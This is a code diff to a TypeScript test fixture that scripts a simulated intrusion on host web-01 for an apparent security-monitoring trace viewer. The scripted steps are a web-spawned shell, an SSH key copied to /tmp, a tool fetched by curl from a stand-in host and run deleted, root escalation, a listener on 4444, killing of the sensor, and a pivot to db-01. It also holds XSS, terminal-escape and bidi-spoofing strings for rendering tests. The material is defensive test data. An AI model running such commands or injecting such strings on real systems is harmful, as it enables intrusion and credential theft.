@@ -4,7 +4,16 @@
  */
 import { createHash } from "node:crypto";
 import type { EventKind } from "#core/model/event.ts";
-import type { AlarmView, EventRow, FleetNode, Hit, Hop, TraceAnswer } from "../../workers/sc/api/answers.ts";
+import type {
+	AlarmView,
+	EventDetails,
+	EventMark,
+	EventRow,
+	FleetNode,
+	Hit,
+	Hop,
+	TraceAnswer,
+} from "../../workers/sc/api/answers.ts";
 
 export const TRACE_ID = "T-20261122-4f1c9a";
 export const STORY_START_MS = Date.UTC(2026, 10, 22, 12, 31, 4, 120);
@@ -89,6 +98,12 @@ class Script {
 		return row;
 	}
 
+	/** An event whose facts are details. */
+	tell(kind: EventKind, pid: number, details: EventDetails, fields: Partial<EventRow> = {}): this {
+		this.event(kind, pid, { ...fields, details });
+		return this.wait(1);
+	}
+
 	snapshot(pid: number, parentPid: number, name: string, cmdline: string[]): this {
 		this.#known.set(pid, { pid, parentPid, name, exe: cmdline[0] ?? name });
 		this.event("snapshot", pid, { cmdline, parent: keyOf(this.#agent, parentPid), creatorParent: null });
@@ -132,18 +147,74 @@ class Script {
 
 const MASK = "‹masked:9c1f›";
 
+/** A name as `nslookup` asks it and the answer it gets. */
+const DNS_ASKED: EventDetails = { dnsName: "db-01.lab", dnsType: 1, protocol: 17, family: 2 };
+const DNS_ANSWERED: EventDetails = {
+	...DNS_ASKED,
+	dnsResponseCode: 0,
+	dnsAnswers: ["db-01.north.lab", "10.44.0.12"],
+	marks: ["received"],
+};
+/** Where Apache's children run. */
+const APACHE_PLACE: EventDetails = {
+	cwd: "/srv/app",
+	gid: 33,
+	sid: 812,
+	unit: "apache2.service",
+	cgroup: "/system.slice/apache2.service",
+	environment: ["PATH=/usr/bin:/bin", "HTTP_PROXY=‹masked:77aa›"],
+	absent: ["tty: not a terminal"],
+};
+const TOOL_HASH = "5a11c0de".repeat(8);
+
+/** A tool that the shell makes, runs without its file, and that does what system calls do not show. */
+function runTool(web: Script): void {
+	const path = "/tmp/.cache/tool";
+	web.wait(700).fork(4350, 4315).exec(4350, "/usr/bin/curl", ["curl", "-so", path, "https://203.0.113.66/t"]);
+	web.tell("socket", 4350, { family: 2, socketType: 1, protocol: 6 });
+	web.event("connect", 4350, { local: "10.44.0.11:41880", remote: "203.0.113.66:443", result: 0 });
+	web.event("file_create", 4350, { path, details: { marks: ["watched"], openFlags: 0o1101, mode: 0o100644 } });
+	web.tell("file_chmod", 4350, { mode: 0o100755 }, { path });
+	web.tell("file_link", 4350, {}, { path, pathTo: "/var/tmp/.tool" });
+	web.tell("file_hash", 4350, { sha256: TOOL_HASH, blake3: "b3".repeat(32), fileBytes: "48128" }, { path });
+	const sizes = { bytesSent: "517", bytesReceived: "48911" };
+	web.tell("close", 4350, sizes, { local: "10.44.0.11:41880", remote: "203.0.113.66:443" }).exit(4350);
+	web.wait(200).fork(4351, 4315).exec(4351, path, [path, "--listen"]);
+	(web.events.at(-4) as EventRow).details = { marks: ["exe_deleted", "32_bit"], absent: ["sha256: deleted"] };
+	web.tell("view_partial", 4351, {}, { cause: "io_uring" });
+	web.tell("set_id", 4351, { oldUid: 33, oldEuid: 33, oldGid: 33, gid: 0, call: "setuid" }, { uid: 0, euid: 0 });
+	web.tell("bind", 4351, { family: 10, socketType: 1, protocol: 6 }, { local: "[::]:4444" });
+	web.tell("listen", 4351, { family: 10, socketType: 1, protocol: 6 }, { local: "[::]:4444" });
+	web.tell("ptrace", 4351, { call: "ptrace", request: "16", targetPid: 812, target: keyOf("web-01", 812) });
+	const header = { address: "55d0c0de1000", permissions: "r-xp", contentBytes: 4096, sha256: TOOL_HASH };
+	web.tell("memory_header", 4351, header, { path });
+	web.tell("tamper", 4351, { call: "kill", request: "9", targetPid: 377 }, { cause: "own_process" });
+	web.fork(4352, 4351).exec(4352, "/usr/bin/id", ["id"]).exit(4352);
+}
+
+/** What the host told of itself while memory was short. */
+function tireOut(web: Script): void {
+	web.tell("fidelity", 0, { fidelityLevel: 2 }, { cause: "psi_memory" }).wait(900);
+	web.event("gap", 0, { cause: "shed: file (psi_memory)" });
+	web.tell("fidelity", 0, { fidelityLevel: 0 }, { cause: "psi_memory" });
+}
+
 function webScript(): Script {
 	const web = new Script("web-01", 0, STORY_START_MS);
 	web.snapshot(812, 800, "apache2", ["/usr/sbin/apache2", "-k", "start"]).wait(2400);
 	web.fork(4310, 812).exec(4310, "/usr/bin/dash", ["sh", "-c", MASK], true);
+	(web.events[2] as EventRow).details = APACHE_PLACE;
 	web.run(4311, 4310, ["nslookup", "db-01"], (script) => {
-		script.event("connect", 4311, { local: "10.44.0.11:50112", remote: "10.44.0.2:53", result: 0 });
+		script.tell("datagram", 4311, { family: 2, protocol: 17 }, { local: "10.44.0.11:50112", remote: "10.44.0.2:53" });
+		script.tell("dns", 4311, DNS_ASKED, { remote: "10.44.0.2:53" });
+		script.tell("dns", 4311, DNS_ANSWERED, { remote: "10.44.0.2:53" });
 	});
 	web.wait(30).run(4312, 4310, ["id"]).run(4313, 4310, ["uname", "-a"]).run(4314, 4310, ["ls", "-l", "/var/backups"]);
 	web.wait(12).fork(4315, 4310).exec(4315, "/usr/bin/bash", ["bash", "-i"]);
 	web.event("connect", 4315, { local: "10.44.0.11:41872", remote: "203.0.113.66:443", result: 0 });
 	web.wait(5200).run(4320, 4315, ["cat", "/srv/deploy/.ssh/id_ed25519"], (script) => {
-		script.event("file_open", 4320, { path: "/srv/deploy/.ssh/id_ed25519" });
+		const details: EventDetails = { openFlags: 0, mode: 0o100600, marks: ["credential"] };
+		script.event("file_open", 4320, { path: "/srv/deploy/.ssh/id_ed25519", details });
 	});
 	web.wait(900).run(4321, 4315, ["mkdir", "/tmp/.cache"]);
 	web.wait(300).run(4322, 4315, ["cp", "/srv/deploy/.ssh/id_ed25519", "/tmp/.cache/id.part"], (script) => {
@@ -153,7 +224,9 @@ function webScript(): Script {
 	web.wait(700).run(4324, 4315, ["mv", "/tmp/.cache/id.part", "/tmp/.cache/id"], (script) => {
 		script.event("file_rename", 4324, { path: "/tmp/.cache/id.part", pathTo: "/tmp/.cache/id" });
 	});
-	web.wait(4100).fork(4330, 4315);
+	runTool(web);
+	tireOut(web);
+	web.wait(1400).fork(4330, 4315);
 	web.exec(4330, "/usr/bin/ssh", ["ssh", "-i", MASK, "-T", "-o", "BatchMode=yes", "root@db-01", "bash"], true);
 	web.event("connect", 4330, { local: "10.44.0.11:39164", remote: "10.44.0.12:22", result: 0 });
 	return web;
@@ -195,6 +268,10 @@ export const HOSTILE = {
 	name: "ba\u202esh",
 	argument: '<img src=x onerror="document.title=1">\u001b[31m\u0007',
 	path: `/tmp/\u2066in\u200bvoice\u202excod.exe\n${"A".repeat(9000)}`,
+	/** As the agent writes what a name may not hold. */
+	dnsName: "db\\032\\u{202e}moc.\u202elab\u001b]0;x\u0007.example",
+	cause: "io_uring\u202e<b>\u001b[2J",
+	cwd: `/srv/${"deep/".repeat(818)}`,
 	reason: "routine\u0000check</span><script>document.title=2</script>",
 };
 
@@ -202,6 +279,11 @@ function withHostile(events: EventRow[]): EventRow[] {
 	return events.map((event) => {
 		if (event.pid === 4330 && event.kind === "exec")
 			return { ...event, name: HOSTILE.name, cmdline: ["ssh", HOSTILE.argument], isMasked: false };
+		if (event.kind === "dns" && event.details !== null)
+			return { ...event, details: { ...event.details, dnsName: HOSTILE.dnsName, dnsAnswers: [HOSTILE.dnsName] } };
+		if (event.kind === "view_partial") return { ...event, cause: HOSTILE.cause };
+		if (event.pid === 4310 && event.kind === "exec")
+			return { ...event, details: { ...event.details, cwd: HOSTILE.cwd } };
 		return event.pid === 4322 && event.kind === "file_create" ? { ...event, path: HOSTILE.path } : event;
 	});
 }
@@ -216,7 +298,12 @@ export interface Story {
 
 function alarmsOf(isHostile: boolean): AlarmView[] {
 	const at = { firstAtMs: STORY_START_MS + 30_000, lastAtMs: STORY_START_MS + 90_000 };
+	const tool = isHostile ? HOSTILE.name : "tool";
 	return [
+		{
+			...{ ...at, id: 3, agent: "web-01", code: "sensor_tampered", times: 1, hasEvidence: false },
+			detail: `${tool} (4351) acted on the collector: kill, own_process.`,
+		},
 		{
 			...{ ...at, id: 2, agent: "db-01", code: "trace_not_commanded", times: 2000, hasEvidence: false },
 			detail: `db-01 sent events under trace ${isHostile ? HOSTILE.argument : "T-20261122-000000"}, which nobody ever started.`,
@@ -226,6 +313,18 @@ function alarmsOf(isHostile: boolean): AlarmView[] {
 			detail: "Another batch 6f2a91c04b7de835/41 of web-01 is stored already.",
 		},
 	];
+}
+
+const LOOK_BACK: EventMark = "look_back";
+
+/** What a host did before its agent took the command comes from the agent's memory. */
+function fromMemory(events: readonly EventRow[], trace: TraceAnswer): EventRow[] {
+	const begun = new Map(trace.commands.map(({ agent, answeredAtMs }) => [agent, answeredAtMs ?? 0]));
+	return events.map((event) => {
+		if (event.alignedTimeMs >= (begun.get(event.agent) ?? 0) || event.pid === null) return event;
+		const marks = [...(event.details?.marks ?? []), LOOK_BACK];
+		return { ...event, details: { ...event.details, marks } };
+	});
 }
 
 function hopOf(web: Script, db: Script, isFollowed: boolean): Hop {
@@ -297,6 +396,20 @@ function hitsOf(web: Script): Hit[] {
 	];
 }
 
+const NETLINK_MISSING = [
+	"arguments of lives under 10 ms",
+	"file events",
+	"credential opens",
+	"dns names",
+	"datagrams",
+	"bind and listen",
+	"set_id",
+	"ptrace",
+	"memory headers",
+	"hashes of what has ended",
+	"exact connection times",
+];
+
 function nodesOf(nowMs: number): FleetNode[] {
 	const node = (id: string, fields: Partial<FleetNode>): FleetNode => ({
 		id,
@@ -312,6 +425,9 @@ function nodesOf(nowMs: number): FleetNode[] {
 		behindMs: 0,
 		outboxBytes: 2_400_000,
 		clockOffsetMs: 4,
+		fidelityLevel: 0,
+		fidelityCause: "",
+		fidelityMs: 0,
 		rssBytes: 91_000_000,
 		eventCount: 184_220,
 		gapCount: 0,
@@ -322,7 +438,7 @@ function nodesOf(nowMs: number): FleetNode[] {
 	});
 	return [
 		node("px-north", { role: "px", tier: "", via: "", eventCount: 0, outboxBytes: 0, addresses: ["10.44.0.5"] }),
-		node("web-01", {}),
+		node("web-01", { fidelityLevel: 2, fidelityCause: "psi_memory", fidelityMs: nowMs - 42_000 }),
 		node("db-01", { clockOffsetMs: DB_CLOCK_AHEAD_MS, gapCount: 1, addresses: ["10.44.0.12"] }),
 		node("plc-gw-03", {
 			tier: "proc",
@@ -337,8 +453,8 @@ function nodesOf(nowMs: number): FleetNode[] {
 			isUp: false,
 			lastHeardMs: nowMs - 5_400_000,
 			tier: "netlink",
-			missing: "file events",
-			cause: "no CAP_BPF",
+			missing: NETLINK_MISSING.join(","),
+			cause: "the kernel refuses BPF: lockdown is in confidentiality mode",
 		}),
 	];
 }
@@ -350,8 +466,8 @@ export function tellStory(options: { isFollowed: boolean; isHostile: boolean; no
 	const told = [...web.events, ...(options.isFollowed ? db.events : [])]
 		.sort((a, b) => a.alignedTimeMs - b.alignedTimeMs)
 		.map((event, index) => ({ ...event, row: index + 1 }));
-	const events = options.isHostile ? withHostile(told) : told;
 	const gap = db.events.find(({ kind }) => kind === "gap");
+	const shed = web.events.find(({ kind }) => kind === "gap")?.alignedTimeMs ?? 0;
 	const gaps = options.isFollowed
 		? [
 				{
@@ -371,6 +487,15 @@ export function tellStory(options: { isFollowed: boolean; isHostile: boolean; no
 					cause: "the outbox lost two records to a flipped byte",
 					atMs: STORY_START_MS + 7100,
 					sinceMs: null,
+				},
+				{
+					agent: "web-01",
+					scope: "count" as const,
+					from: "1",
+					to: "311",
+					cause: "shed: file (psi_memory)",
+					atMs: shed,
+					sinceMs: shed - 900,
 				},
 			]
 		: [];
@@ -394,7 +519,7 @@ export function tellStory(options: { isFollowed: boolean; isHostile: boolean; no
 			reason,
 			initiatedBy: "ana",
 			startedAtMs: STORY_START_MS + 3000,
-			eventCount: events.length,
+			eventCount: told.length,
 			hosts: options.isFollowed ? ["web-01", "db-01"] : ["web-01"],
 			hitId: 11,
 		},
@@ -433,5 +558,7 @@ export function tellStory(options: { isFollowed: boolean; isHostile: boolean; no
 		hops: [hop],
 		completeness: { isComplete: gaps.length === 0, gaps },
 	};
+	const marked = fromMemory(told, trace);
+	const events = options.isHostile ? withHostile(marked) : marked;
 	return { events, trace, hits: hitsOf(web), nodes: nodesOf(options.nowMs), alarms: alarmsOf(options.isHostile) };
 }
